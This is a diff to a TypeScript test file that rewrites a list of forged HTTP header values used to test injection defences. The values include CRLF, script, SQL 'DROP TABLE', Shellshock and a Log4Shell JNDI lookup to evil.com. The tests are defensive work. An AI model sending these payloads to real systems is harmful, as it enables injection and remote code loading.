@@ -1,4 +1,4 @@
-import { asked, bare, get, head, host, type Kind, type Row, reader, short } from './row';
+import { asked, bare, fields, get, head, host, type Kind, type Row, reader, short } from './row';
 
 /** A request with a header line of its own, however it is spelled. */
 const withLine = (line: string, answers: Row['answers'], more: Partial<Row> = {}): Row => ({
@@ -21,38 +21,18 @@ const ends = ['\r\nSet-Cookie: x=1', '\nSet-Cookie: x=1'];
 const named = ['Accept-Language', 'X-Request-Id', 'traceparent', 'Cookie', 'User-Agent', 'X-Any'];
 
 /** Values by which a header of ours would be forged, had they a way into an answer or a line of the log. */
-const forged: [name: string, value: string][] = [
-  ...[
-    '<script>',
-    'a b',
-    '"}',
-    '%0d%0aSet-Cookie:%20x=1',
-    '\xe9',
-    `${'x'.repeat(65)}`,
-    '../x',
-    ';',
-  ].map((value): [string, string] => ['X-Request-Id', value]),
-  ...['00-x', `00-${'0'.repeat(32)}-${'0'.repeat(16)}-00"`, '\xff', `${'f'.repeat(4000)}`].map(
-    (value): [string, string] => ['traceparent', value],
-  ),
-  ...[
-    '%0d%0aSet-Cookie:%20x=1',
-    '"><script>',
-    '\xe9\xff',
-    ';q=',
-    'en;q=1e9',
-    '*;q=-1',
-    ',,,,;;;;',
-  ].map((value): [string, string] => ['Accept-Charset', value]),
-  ...[
-    '\xff\xfe',
-    '\x80',
-    '%00',
-    "'; DROP TABLE x; --",
-    '$' + '{jndi:ldap://evil.com}',
-    '() { :; };',
-  ].map((value): [string, string] => ['User-Agent', value]),
-];
+const forged = [
+  ...fields(`
+  X-Request-Id: <script> | X-Request-Id: a b | X-Request-Id: "} | X-Request-Id: \xe9
+  X-Request-Id: %0d%0aSet-Cookie:%20x=1 | X-Request-Id: ../x | X-Request-Id: ;
+  traceparent: 00-x | traceparent: 00-${'0'.repeat(32)}-${'0'.repeat(16)}-00" | traceparent: \xff
+  Accept-Charset: %0d%0aSet-Cookie:%20x=1 | Accept-Charset: "><script> | Accept-Charset: \xe9\xff
+  Accept-Charset: ;q= | Accept-Charset: en;q=1e9 | Accept-Charset: *;q=-1 | Accept-Charset: ,,,,;;;;
+  User-Agent: \xff\xfe | User-Agent: \x80 | User-Agent: %00 | User-Agent: '; DROP TABLE x; --
+  User-Agent: \${jndi:ldap://evil.com} | User-Agent: () { :; };`),
+  ['X-Request-Id', 'x'.repeat(65)],
+  ['traceparent', 'f'.repeat(4000)],
+] as const;
 
 /** Headers and answers that a request tries to put into an answer, or into the head of the next request. */
 export const injection: Kind = {
